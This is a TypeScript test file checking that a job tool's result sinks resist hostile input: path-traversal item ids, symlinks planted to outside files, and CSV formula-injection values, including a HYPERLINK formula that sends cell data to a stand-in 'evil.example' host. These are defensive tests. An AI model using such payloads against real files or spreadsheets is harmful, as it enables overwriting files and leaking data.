import { execFileSync } from 'node:child_process';
import { lstatSync, mkdirSync, readdirSync, readFileSync, readlinkSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import Database from 'better-sqlite3';
import { parse } from 'csv-parse/sync';
import { afterEach, describe, expect, it } from 'vitest';
import { createApp } from '../../src/app.js';
import { resolveConfig } from '../../src/config.js';
import { ROOT, Sandbox } from '../helpers/cli.js';
import { call, connectInMemory } from '../helpers/mcp.js';
import { createTestDatabase, dropTestDatabase, queryPostgres } from '../helpers/postgres.js';

/*
 * Result sinks against hostile item ids, hostile field names and a folder with
 * links planted in it: every unit's result is written, inside the folder, under a
 * name no other unit has, or reported with the reason; the counts are what is on
 * disk; nothing outside the folder changes. The job runs in a real executor, the
 * sinks are written by the spawned CLI (and once through the MCP tool), on both
 * stores.
 */

let sb: Sandbox;
const databases: string[] = [];
afterEach(async () => {
  await sb?.cleanup();
  for (const url of databases.splice(0)) await dropTestDatabase(url).catch(() => undefined);
});

const quote = (v: string) => `"${v.replace(/"/g, '""')}"`;

/** A job over `rows` (each an id and an optional JSON answer) whose function worker answers from the row. */
async function runJob(rows: Array<{ id: string; json?: unknown }>): Promise<number> {
  const file = sb.path('items.csv');
  writeFileSync(file, ['id,json', ...rows.map((r) => `${quote(r.id)},${quote(r.json === undefined ? '' : JSON.stringify(r.json))}`)].join('\n') + '\n');
  writeFileSync(
    sb.path('spec.json'),
    JSON.stringify({
      name: 'sinks',
      user_intent: 'answer',
      enumerator_type: 'csv',
      enumerator_config: { file_path: file, id_column: 'id' },
      worker_type: 'function',
      worker_config: { module: join(ROOT, 'test/fixtures/functions/from-item.mjs') },
      max_workers: 4,
    }),
  );
  const id = (await sb.ok(['create', '--spec', sb.path('spec.json')])).job_id as number;
  await sb.cli(['start', String(id), '--skip-test']);
  const done = await sb.waitFor(id, (s) => ['COMPLETED', 'FAILED', 'PAUSED'].includes(s.status), 60_000);
  expect(done.status).toBe('COMPLETED');
  expect(done.counts.succeeded).toBe(rows.length);
  return id;
}

/** Every entry under `dir`, links not followed: relative path → what it is. */
function tree(dir: string, rel = ''): Map<string, string> {
  const out = new Map<string, string>();
  for (const name of readdirSync(join(dir, rel))) {
    const path = rel ? `${rel}/${name}` : name;
    const st = lstatSync(join(dir, path));
    if (st.isSymbolicLink()) out.set(path, `link → ${readlinkSync(join(dir, path))}`);
    else if (st.isDirectory()) {
      out.set(path, 'folder');
      for (const [k, v] of tree(dir, path)) out.set(k, v);
    } else if (st.isFile()) out.set(path, `file: ${readFileSync(join(dir, path), 'utf8')}`);
    else out.set(path, 'other');
  }
  return out;
}

/** Files outside the folder that planted links point at: each must keep its content. */
function plantOutside(): { dir: string; snapshot: () => Map<string, string> } {
  const dir = sb.path('outside');
  mkdirSync(dir);
  for (const name of ['victim.txt', 'tmp-victim.txt', 'secret.txt']) writeFileSync(join(dir, name), `original ${name}\n`);
  return { dir, snapshot: () => tree(dir) };
}

describe('dir sink: hostile item ids', () => {
  it('every unit is written under its own name or reported with why; the count on disk is the report; nothing leaves the folder', async () => {
    sb = new Sandbox();
    const long = 'L'.repeat(300);
    const deep = Array.from({ length: 120 }, () => 'dddddddd').join('/');
    const ids = [
      'x', 'x', // the same item twice
      ...Array.from({ length: 30 }, (_, i) => `x.unit-${i + 1}`), // what a renamed duplicate used to be called
      'a b', 'a_b', 'A', 'a', 'a.txt/b', // look-alikes, case, and a file that another id needs as a folder
      long, `${long}Z`, deep, // too long for one file name, and too deep for a path
      '../../escape', '/etc/abs', '..', '.hidden', 'dir/../../up', 'back\\slash', 'café/日本',
      'sub/pwned', // sub is a link planted to a folder outside
      'victim', // victim.txt is a link planted to a file outside
      'blocked', // blocked.txt is a folder already
      'fifo', // fifo.txt is a named pipe
      'plain/kept',
    ];
    const id = await runJob(ids.map((i) => ({ id: i })));
    const units = (await sb.results(id)).map((l) => ({ unit_id: l.unit_id as number, item_id: l.item_id as string }));
    expect(units).toHaveLength(ids.length);

    const out = sb.path('out');
    const outside = plantOutside();
    mkdirSync(join(out, 'blocked.txt'), { recursive: true });
    writeFileSync(join(out, 'blocked.txt', 'keep'), 'a user file\n');
    symlinkSync(outside.dir, join(out, 'sub'));
    symlinkSync(join(outside.dir, 'victim.txt'), join(out, 'victim.txt'));
    // The old temporary name of item x's file: a write through it would land outside.
    symlinkSync(join(outside.dir, 'tmp-victim.txt'), join(out, 'x.txt.tmp'));
    execFileSync('mkfifo', [join(out, 'fifo.txt')]);
    const before = outside.snapshot();

    const run = await sb.cli(['results', String(id), '--sink', `dir:${out}`, '--json']);
    // Outside: exactly as it was.
    expect(outside.snapshot()).toEqual(before);
    expect(run.exitCode).toBe(1); // some units could not be written
    const [report] = run.json;
    const byItem = (item: string) => units.filter((u) => u.item_id === item).map((u) => u.unit_id);
    expect(report.failures).toEqual([
      { unit_id: byItem('sub/pwned')[0], item_id: 'sub/pwned', reason: 'sub is a symbolic link; links inside the folder are never followed' },
      { unit_id: byItem('blocked')[0], item_id: 'blocked', reason: "blocked.txt is a folder; the item's file cannot replace it" },
    ]);
    expect(report).toMatchObject({ sink: 'dir', written: ids.length - 2, unchanged: 0, skipped: 0, failed: 2 });
    // Inside: the planted things as they were (the links replaced by files only where an item's name is), and
    // one file per written unit, holding that unit's answer.
    const entries = tree(out);
    expect(entries.get('sub')).toBe(`link → ${outside.dir}`);
    expect(entries.get('x.txt.tmp')).toBe(`link → ${join(outside.dir, 'tmp-victim.txt')}`);
    expect(entries.get('blocked.txt/keep')).toBe('file: a user file\n');
    expect([...entries.keys()].filter((k) => k.endsWith('.tmp'))).toEqual(['x.txt.tmp']);
    const planted = new Set(['sub', 'x.txt.tmp', 'blocked.txt', 'blocked.txt/keep']);
    const files = [...entries].filter(([k, v]) => !planted.has(k) && v.startsWith('file: '));
    expect(files).toHaveLength(report.written);
    const owners = files.map(([, v]) => Number(/^file: unit (\d+): /.exec(v)![1]));
    expect(new Set(owners).size).toBe(files.length); // no two files hold one unit, no file was overwritten by another
    const failedUnits = report.failures.map((f: any) => f.unit_id);
    expect([...owners, ...failedUnits].sort((a, b) => a - b)).toEqual(units.map((u) => u.unit_id).sort((a, b) => a - b));
    for (const [name, content] of files) {
      const unit = units.find((u) => u.unit_id === Number(/^file: unit (\d+): /.exec(content)![1]))!;
      expect(content).toBe(`file: unit ${unit.unit_id}: ${unit.item_id}`);
      expect(name.endsWith('.txt')).toBe(true);
    }
    // The names: safe ids as they are, the rest readable and hashed.
    expect(entries.get('x.txt')).toBe(`file: unit ${byItem('x')[0]}: x`);
    expect(entries.get('victim.txt')).toBe(`file: unit ${byItem('victim')[0]}: victim`);
    expect(entries.get('fifo.txt')).toBe(`file: unit ${byItem('fifo')[0]}: fifo`);
    expect(entries.get('A.txt')).toBe(`file: unit ${byItem('A')[0]}: A`);
    expect(entries.get('a_b.txt')).toBe(`file: unit ${byItem('a_b')[0]}: a_b`);
    expect(entries.get('plain/kept.txt')).toBe(`file: unit ${byItem('plain/kept')[0]}: plain/kept`);
    expect([...entries.keys()].find((k) => /^L{183}~[0-9a-f]{16}\.txt$/.test(k) && entries.get(k)!.endsWith(`: ${long}`))).toBeDefined();
    const named = (pattern: RegExp) => [...entries.keys()].filter((k) => pattern.test(k)).map((k) => entries.get(k));
    expect(named(/^_~[0-9a-f]{16}\/_~[0-9a-f]{16}\/escape~[0-9a-f]{16}\.txt$/)).toEqual([`file: unit ${byItem('../../escape')[0]}: ../../escape`]);
    expect(named(/^etc\/abs~[0-9a-f]{16}\.txt$/)).toEqual([`file: unit ${byItem('/etc/abs')[0]}: /etc/abs`]);
    expect(named(/^a\.txt~[0-9a-f]{16}\/b~[0-9a-f]{16}\.txt$/)).toEqual([`file: unit ${byItem('a.txt/b')[0]}: a.txt/b`]);
    expect(named(/^x~[0-9a-f]{16}\.txt$/)).toEqual([`file: unit ${byItem('x')[1]}: x`]);
    // a differs from A only in case: on a case-insensitive file system they would be one file.
    expect(named(/^a~[0-9a-f]{16}\.txt$/)).toEqual([`file: unit ${byItem('a')[0]}: a`]);
    expect(named(/^a_b~[0-9a-f]{16}\.txt$/)).toEqual([`file: unit ${byItem('a b')[0]}: a b`]);
    expect(named(/^d+_[d_]+~[0-9a-f]{16}\.txt$/)).toEqual([`file: unit ${byItem(deep)[0]}: ${deep}`]);

    // Printed for people: the counts, then one line per unit.
    const human = await sb.cli(['results', String(id), '--sink', `dir:${out}`]);
    expect(human.exitCode).toBe(1);
    expect(human.stdout).toContain(`: 0 written, ${ids.length - 2} unchanged, 0 skipped, 2 failed`);
    expect(human.stdout).toContain(`  unit ${byItem('sub/pwned')[0]} (item "sub/pwned"): sub is a symbolic link; links inside the folder are never followed`);
    expect(outside.snapshot()).toEqual(before);
  }, 120_000);

  it('through the MCP tool, the report lists the units it could not write', async () => {
    sb = new Sandbox();
    const id = await runJob([{ id: 'ok' }, { id: 'sub/pwned' }]);
    const out = sb.path('out');
    const outside = plantOutside();
    mkdirSync(out);
    symlinkSync(outside.dir, join(out, 'sub'));
    const app = await createApp(resolveConfig(sb.env));
    try {
      const client = await connectInMemory(app);
      const report = await call(client, 'write_results', { job_id: id, sink: { type: 'dir', path: out } });
      expect(report).toMatchObject({ written: 1, failed: 1, failures: [{ item_id: 'sub/pwned', reason: 'sub is a symbolic link; links inside the folder are never followed' }] });
      await client.close();
    } finally {
      await app.close();
    }
    expect(readdirSync(outside.dir).sort()).toEqual(['secret.txt', 'tmp-victim.txt', 'victim.txt']);
  });
});

describe('jsonl sink', () => {
  it('refuses a target that is a symbolic link, leaving its target and the folder as they were', async () => {
    sb = new Sandbox();
    const id = await runJob([{ id: 'one' }, { id: 'two' }]);
    const outside = plantOutside();
    const dir = sb.path('res');
    mkdirSync(dir);
    const link = join(dir, 'results.jsonl');
    symlinkSync(join(outside.dir, 'victim.txt'), link);
    const refused = await sb.cli(['results', String(id), '--sink', `jsonl:${link}`]);
    expect(refused.exitCode).toBe(2);
    expect(refused.stderr).toContain(`sink jsonl: ${link} is a symbolic link (to ${join(outside.dir, 'victim.txt')}); abp replaces the file whole and never writes through a link`);
    expect(readFileSync(join(outside.dir, 'victim.txt'), 'utf8')).toBe('original victim.txt\n');
    expect(readdirSync(dir)).toEqual(['results.jsonl']);

    // A plain target: written whole, and no temporary file left beside it.
    const plain = join(dir, 'plain.jsonl');
    const [report] = await sb.ok(['results', String(id), '--sink', `jsonl:${plain}`]);
    expect(report).toMatchObject({ sink: 'jsonl', written: 2, failed: 0, failures: [] });
    expect(readFileSync(plain, 'utf8').trim().split('\n').map((l) => JSON.parse(l).item_id)).toEqual(['one', 'two']);
    expect(readdirSync(dir).sort()).toEqual(['plain.jsonl', 'results.jsonl']);
  });
});

/** The structured output of the hostile-fields item: fields that used to share a column. */
const LONG = 'x'.repeat(70);
const HOSTILE = { Score: 1, score: 2, 'a.b': 3, a: { b: 4 }, status: '=1+1', output_status: '-2+3', [`${LONG}_a`]: 5, [`${LONG}_b`]: 6, neg: -7 };

describe('table sink and CSV export: field names', () => {
  it('every field gets its own column, within 63 bytes, the same on every run, on SQLite and PostgreSQL', async () => {
    sb = new Sandbox();
    const id = await runJob([{ id: 'h', json: HOSTILE }, { id: 'scalar', json: 42 }]);
    const pg = await createTestDatabase();
    databases.push(pg);
    const file = sb.path('t.sqlite');
    // The test server trusts local connections; the password is there to be kept out of the report.
    const withPassword = pg.replace('postgres://postgres@', 'postgres://postgres:hunter2@');
    expect(withPassword).not.toBe(pg);
    for (const target of [`${file}#results`, `${withPassword}#results`]) {
      for (let run = 0; run < 2; run++) {
        const [report] = await sb.ok(['results', String(id), '--sink', `table:${target}`, '--create-table']);
        expect(report).toMatchObject({ sink: 'table', written: 2, failed: 0 });
        expect(report.target).not.toContain('hunter2');
      }
    }
    const sqlite = new Database(file, { readonly: true });
    const fromSqlite = sqlite.prepare('select * from results order by unit_id').all() as Record<string, unknown>[];
    const sqliteColumns = (sqlite.prepare('pragma table_info(results)').all() as { name: string }[]).map((c) => c.name);
    sqlite.close();
    const fromPg = await queryPostgres<Record<string, unknown>>(pg, 'select * from results order by unit_id');
    const pgColumns = (await queryPostgres<{ column_name: string }>(pg, "select column_name from information_schema.columns where table_name = 'results'")).map((c) => c.column_name);
    expect([...pgColumns].sort()).toEqual([...sqliteColumns].sort());
    for (const c of sqliteColumns) expect(Buffer.byteLength(c)).toBeLessThanOrEqual(63);

    for (const rows of [fromSqlite, fromPg]) {
      expect(rows).toHaveLength(2);
      const [h, scalar] = rows as [Record<string, unknown>, Record<string, unknown>];
      const at = (pattern: RegExp) => {
        const names = Object.keys(h).filter((k) => pattern.test(k));
        expect(names).toHaveLength(1);
        return h[names[0]!] === null ? null : Number.isNaN(Number(h[names[0]!])) ? h[names[0]!] : Number(h[names[0]!]);
      };
      expect(at(/^score$/)).toBe(2);
      expect(at(/^score___[0-9a-f]{10}$/)).toBe(1);
      expect(at(/^a__b$/)).toBe(4);
      expect(at(/^a_b___[0-9a-f]{10}$/)).toBe(3);
      expect(at(/^output_status$/)).toBe('=1+1');
      expect(at(/^output_status___[0-9a-f]{10}$/)).toBe('-2+3');
      // Two names past 63 bytes that differ only at their ends: two columns.
      expect(at(/^x{30}_x{17}_a___[0-9a-f]{10}$/)).toBe(5);
      expect(at(/^x{30}_x{17}_b___[0-9a-f]{10}$/)).toBe(6);
      expect(at(/^neg$/)).toBe(-7);
      expect(h.status).toBe('SUCCEEDED');
      expect(Number(scalar.structured_output)).toBe(42);
    }

    // A table name PostgreSQL would cut short is refused, not truncated.
    const tooLong = await sb.cli(['results', String(id), '--sink', `table:${file}#${'t'.repeat(64)}`, '--create-table']);
    expect(tooLong.exitCode).toBe(2);
    expect(tooLong.stderr).toContain('a table name of at most 63 characters');
  }, 120_000);

  it('the CSV export gives every field its own header and writes no live formula', async () => {
    sb = new Sandbox();
    const id = await runJob([
      { id: '=HYPERLINK("http://evil.example/?"&A1,"click")', json: HOSTILE },
      { id: '@SUM(A1:A2)', json: 42 },
      { id: '+1+1', json: { score: '@x', Score: '\tTab', note: '-1+1' } },
      { id: '-1+1' },
    ]);
    const run = await sb.cli(['results', String(id), '--format', 'csv']);
    expect(run.exitCode).toBe(0);
    const [header, ...rows] = parse(run.stdout) as string[][];
    expect(header!.slice(0, 9)).toEqual(['unit_id', 'item_id', 'status', 'attempt', 'output', 'error', 'cost_usd', 'duration_ms', 'payload']);
    const fieldsShown = header!.slice(9);
    expect(fieldsShown).toEqual([
      'structured_output', 'output.Score', 'output.a.b', 'output.a\\.b', 'output.neg', 'output.note',
      'output.output_status', 'output.score', 'output.status', `output.${LONG}_a`, `output.${LONG}_b`,
    ]);
    const cell = (row: string[], name: string) => row[header!.indexOf(name)];
    const [first, second, third, fourth] = rows as [string[], string[], string[], string[]];
    expect(cell(first, 'item_id')).toBe('\'=HYPERLINK("http://evil.example/?"&A1,"click")');
    expect([cell(first, 'output.Score'), cell(first, 'output.score'), cell(first, 'output.a\\.b'), cell(first, 'output.a.b')]).toEqual(['1', '2', '3', '4']);
    expect(cell(first, 'output.status')).toBe("'=1+1");
    expect(cell(first, 'output.neg')).toBe('-7'); // a number stays a number
    expect(cell(second, 'item_id')).toBe("'@SUM(A1:A2)");
    expect(cell(second, 'structured_output')).toBe('42');
    expect([cell(third, 'item_id'), cell(third, 'output.score'), cell(third, 'output.Score'), cell(third, 'output.note')]).toEqual(["'+1+1", "'@x", "'\tTab", "'-1+1"]);
    expect(cell(fourth, 'item_id')).toBe("'-1+1");
    expect(cell(fourth, 'output')).toBe('unit ' + cell(fourth, 'unit_id') + ': -1+1');
    for (const row of rows) for (const c of row) expect(c).not.toMatch(/^[=+@\t\r]|^-(?!\d)/);
  });
});
